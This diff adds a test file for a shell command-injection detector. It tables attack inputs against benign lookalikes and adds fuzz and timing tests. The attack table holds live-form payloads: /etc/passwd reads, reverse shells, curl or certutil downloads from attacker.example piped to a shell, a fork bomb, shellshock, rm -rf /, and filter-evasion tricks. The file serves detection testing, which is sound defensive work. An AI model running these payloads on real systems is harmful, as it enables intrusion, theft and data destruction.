@@ -1,0 +1,276 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { isThreat } from '../../src/core/taxonomy.js';
+import { CMDI_MAX_INPUT, cmdiDetector } from '../../src/detect/cmdi.js';
+import type { ContentProfile, InspectedValue, Paranoia } from '../../src/detect/types.js';
+
+const compiled = {
+  1: cmdiDetector.compile({ paranoia: 1 }),
+  2: cmdiDetector.compile({ paranoia: 2 }),
+  3: cmdiDetector.compile({ paranoia: 3 }),
+};
+const run = (value: string, profile: ContentProfile = 'generic', paranoia: Paranoia = 1) =>
+  compiled[paranoia]({ value, location: 'query.q', source: 'query', profile });
+const fires = (value: string, profile: ContentProfile = 'generic', paranoia: Paranoia = 1) =>
+  run(value, profile, paranoia).some((f) => f.score >= 0.5);
+
+interface Row {
+  input: string;
+  expect: boolean;
+  profile?: ContentProfile;
+  paranoia?: Paranoia;
+  note?: string;
+}
+
+const ATTACKS: Row[] = [
+  // separators
+  { input: '; cat /etc/passwd', expect: true },
+  { input: 'foo;id', expect: true },
+  { input: '|id|', expect: true },
+  { input: 'x || whoami', expect: true },
+  { input: 'x && uname -a', expect: true },
+  { input: '127.0.0.1 & ping -n 30 127.0.0.1 &', expect: true },
+  { input: '127.0.0.1\nwhoami', expect: true, note: 'newline separator' },
+  { input: "'; /bin/sleep 31 ;", expect: true, note: 'closing a quote first' },
+  { input: '"; ls -la /tmp #', expect: true },
+  { input: 'a);/usr/bin/id|', expect: true },
+  // substitution
+  { input: '$(whoami)', expect: true },
+  { input: '`id`', expect: true },
+  { input: 'x$(cat /etc/passwd)', expect: true },
+  { input: 'name=`curl http://attacker.example/x.sh|sh`', expect: true },
+  { input: '<(cat /etc/passwd)', expect: true, note: 'process substitution' },
+  // evasion
+  { input: ";c'a't /etc/passwd", expect: true, note: 'quotes inside the command name' },
+  { input: ';c"a"t /etc/passwd', expect: true },
+  { input: ';\\c\\a\\t /etc/passwd', expect: true, note: 'backslash escapes' },
+  { input: ';cat${IFS}/etc/passwd', expect: true, note: '${IFS} as a space' },
+  { input: ';cat$IFS$9/etc/passwd', expect: true },
+  { input: ';/???/??t /???/p??s??', expect: true, note: 'wildcards' },
+  { input: '/bin/c?t /e??/p?sswd', expect: true },
+  { input: ';{cat,/etc/passwd}', expect: true, note: 'brace expansion' },
+  { input: ';ca$@t /etc/passwd', expect: true, note: 'empty expansion' },
+  { input: ';w$()hoami', expect: true, note: 'empty substitution inside a word' },
+  // interpreters and reverse shells
+  { input: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', expect: true },
+  { input: '; nc -e /bin/sh 10.0.0.1 4444', expect: true },
+  { input: "; python -c 'import socket,os'", expect: true },
+  { input: "| perl -e 'print 1'", expect: true },
+  { input: '; sh -i', expect: true },
+  { input: '() { :; }; /bin/bash -c "id"', expect: true, note: 'shellshock' },
+  { input: ':(){ :|:& };:', expect: true, note: 'fork bomb' },
+  { input: '<!--#exec cmd="/bin/cat /etc/passwd"-->', expect: true, note: 'SSI' },
+  { input: '; wget http://attacker.example/x -O /tmp/x', expect: true },
+  { input: '; curl -s http://attacker.example/a | sh', expect: true },
+  // Windows
+  { input: '& cmd /c dir c:\\', expect: true },
+  { input: '| type c:\\windows\\win.ini', expect: true },
+  { input: '%COMSPEC% /c whoami', expect: true },
+  { input: '& w^h^o^a^m^i', expect: true, note: 'caret escapes' },
+  { input: '; powershell -nop -enc SQBFAFgA', expect: true },
+  { input: '| certutil -urlcache -f http://attacker.example/x.exe x.exe', expect: true },
+  { input: '& net user hacker P4ss /add', expect: true },
+  { input: '; iwr http://attacker.example/x.ps1', expect: true },
+  { input: 'for /f "delims=" %a in (\'whoami\') do echo %a', expect: true, note: 'batch for loop' },
+  { input: 'ping.exe -n 31 127.0.0.1', expect: true, note: 'command with shell arguments, no separator' },
+  { input: 'cat /etc/passwd', expect: true },
+  { input: '/usr/bin/id', expect: true },
+  { input: '| nslookup attacker.example', expect: true, note: 'host name argument' },
+  { input: '|${PATH:0:1}bin${PATH:0:1}id', expect: true, note: 'substring expansion standing for /' },
+  { input: '$(</etc/passwd)', expect: true, note: 'file read into the command line' },
+  { input: '| %SYSTEMROOT%\\system32\\whoami', expect: true },
+  { input: ';echo${IFS}test', expect: true },
+  { input: '; ls /', expect: true },
+  // profile and paranoia
+  { input: '$(id)', expect: true, profile: 'identifier' },
+  { input: 'great product; rm -rf /', expect: true, profile: 'free-text' },
+  { input: '& id', expect: false, note: 'ambiguous at PL1' },
+  { input: '& id', expect: true, paranoia: 3 },
+  { input: 'whoami', expect: false },
+  { input: 'whoami', expect: true, paranoia: 3 },
+  {
+    input: '; cat /etc/passwd',
+    expect: true,
+    profile: 'code',
+    note: 'a leading breakout still counts in code',
+  },
+];
+
+const BENIGN: Row[] = [
+  { input: 'cat', expect: false },
+  { input: 'ping', expect: false },
+  { input: 'my cat likes to sleep all day', expect: false },
+  { input: 'Tom & Jerry', expect: false },
+  { input: 'R&D; sales & marketing', expect: false },
+  { input: 'salt & pepper; more salt', expect: false },
+  { input: 'rock & more', expect: false },
+  { input: 'I saw the cat; it was asleep', expect: false, profile: 'free-text' },
+  { input: 'Use the `ls` command to list files', expect: false, profile: 'free-text' },
+  {
+    input: '| id | name | email |\n|----|------|-------|\n| 1 | Ann | a@b.c |',
+    expect: false,
+    profile: 'free-text',
+  },
+  { input: 'Run `ls -la | grep foo` to find it', expect: false, profile: 'free-text' },
+  { input: 'ping me when you are done', expect: false },
+  { input: 'time flies; date night at 8', expect: false },
+  { input: 'https://example.com/a?b=1&id=5&c=cat', expect: false },
+  { input: 'a=1&b=2&type=3', expect: false },
+  { input: 'john.doe@example.com', expect: false },
+  { input: '1-800-555-0199', expect: false },
+  { input: 'C:\\Users\\ann\\Documents\\report.docx', expect: false },
+  { input: '/home/ann/photos/cat.jpg', expect: false },
+  { input: '/var/lib/app', expect: false },
+  { input: 'Price: $5 (was $7) & free shipping', expect: false },
+  { input: '{"name":"Ann","tags":["a|b","c;d"]}', expect: false },
+  { input: 'c/ caridad s/n', expect: false },
+  { input: 'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0', expect: false },
+  { input: 'session=abc; theme=dark; id=42', expect: false },
+  { input: 'Johnson & Johnson; Procter & Gamble', expect: false },
+  { input: '| Date | Time | Score |\n| 2020 | 10:00 | 3 |', expect: false, note: 'text table' },
+  { input: 'Lancaster (SC) HS', expect: false },
+  { input: 'Hello {file} and {name}', expect: false, note: 'template placeholders' },
+  {
+    input: 'lines=$(wc -l < "$f")\necho "$lines"',
+    expect: false,
+    profile: 'free-text',
+    note: 'script pasted as text',
+  },
+  { input: 'return str.replace(/[aeiou]/gi, "")', expect: false },
+  { input: 'int main() {\n  int a[] = {1, 2};\n  return 0;\n}', expect: false, profile: 'free-text' },
+  { input: "1' or sleep(5)#", expect: false, note: 'SQL, not shell' },
+  { input: '1) rlike (select * from (select(sleep(5)))a)#', expect: false },
+  { input: '/../../{file}', expect: false },
+  // shell in a code profile is legitimate
+  { input: 'ls -la | grep foo && echo done', expect: false, profile: 'code' },
+  { input: 'for f in $(find . -name "*.log"); do gzip "$f"; done', expect: false, profile: 'code' },
+  { input: "USAGE=$(df /home | tail -1 | awk '{print $5}')", expect: false, profile: 'code' },
+];
+
+describe('cmdi detector: table', () => {
+  it.each([...ATTACKS, ...BENIGN])('$input ($profile, PL$paranoia) → $expect', (row) => {
+    const got = fires(row.input, row.profile ?? 'generic', row.paranoia ?? 1);
+    expect(got, row.note ?? row.input).toBe(row.expect);
+  });
+
+  it('reports a well-formed finding for an attack', () => {
+    const value = 'abc; cat /etc/passwd';
+    const [f] = run(value);
+    expect(f).toBeDefined();
+    expect(f!.category).toBe('injection');
+    expect(f!.subtype).toBe('cmdi');
+    expect(f!.detector).toBe('cmdi');
+    expect(f!.location).toBe('query.q');
+    expect(f!.score).toBeGreaterThanOrEqual(0.85);
+    expect(f!.severity).toBe('critical');
+    expect(value).toContain(f!.fragment!);
+    expect(f!.fragment).toContain('cat /etc/passwd');
+  });
+
+  it('higher paranoia never lowers a score', () => {
+    for (const row of ATTACKS) {
+      const s1 = run(row.input, row.profile ?? 'generic', 1)[0]?.score ?? 0;
+      const s3 = run(row.input, row.profile ?? 'generic', 3)[0]?.score ?? 0;
+      expect(s3).toBeGreaterThanOrEqual(s1);
+    }
+  });
+
+  it('only inspects the start of a huge value', () => {
+    const padding = 'a'.repeat(CMDI_MAX_INPUT);
+    expect(fires('; cat /etc/passwd')).toBe(true);
+    expect(fires(`${padding}; cat /etc/passwd`)).toBe(false);
+  });
+});
+
+const isWellFormed = (f: ReturnType<typeof run>[number], input: InspectedValue) =>
+  isThreat(f.category, f.subtype) &&
+  f.subtype === 'cmdi' &&
+  f.score >= 0.5 &&
+  f.score <= 1 &&
+  ['critical', 'high', 'medium', 'low', 'info'].includes(f.severity) &&
+  f.location === input.location &&
+  typeof f.fragment === 'string' &&
+  f.fragment.length <= 120;
+
+describe('cmdi detector: fuzz', () => {
+  const profiles = fc.constantFrom<ContentProfile>(
+    'generic',
+    'identifier',
+    'free-text',
+    'url',
+    'code',
+    'markup',
+  );
+  const shellish = fc
+    .array(
+      fc.constantFrom(
+        ';',
+        '|',
+        '||',
+        '&',
+        '&&',
+        '\n',
+        '$(',
+        ')',
+        '`',
+        '${IFS}',
+        '$IFS$9',
+        '{',
+        '}',
+        ',',
+        "'",
+        '"',
+        '\\',
+        '^',
+        ' ',
+        'cat',
+        'id',
+        '/etc/passwd',
+        '/???/',
+        '-c',
+        '>',
+        '2>&1',
+        '<(',
+        '()',
+        '%COMSPEC%',
+        'for',
+        '%a',
+        'in',
+        'do',
+        'é',
+      ),
+      { maxLength: 40 },
+    )
+    .map((parts) => parts.join(''));
+
+  it('never throws and returns well-formed findings', () => {
+    fc.assert(
+      fc.property(
+        fc.oneof(fc.string({ maxLength: 300 }), fc.string({ unit: 'binary', maxLength: 100 }), shellish),
+        profiles,
+        fc.constantFrom<Paranoia>(1, 2, 3),
+        (value, profile, paranoia) => {
+          const input: InspectedValue = { value, location: 'body.$.x', source: 'body', profile };
+          const out = compiled[paranoia](input);
+          expect(Array.isArray(out)).toBe(true);
+          for (const f of out) expect(isWellFormed(f, input)).toBe(true);
+        },
+      ),
+      { numRuns: 500 },
+    );
+  });
+});
+
+describe('cmdi detector: adversarial input', () => {
+  it.each(['$(', '`', '${IFS', '${', '{cat,', '; cat ', '/???/', "c'a't ", '() {', '& for %a in ('])(
+    '1 MB of %j completes quickly',
+    (unit) => {
+      const value = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
+      const t0 = performance.now();
+      const out = run(value, 'generic', 3);
+      const ms = performance.now() - t0;
+      expect(Array.isArray(out)).toBe(true);
+      expect(ms).toBeLessThan(500);
+    },
+  );
+});
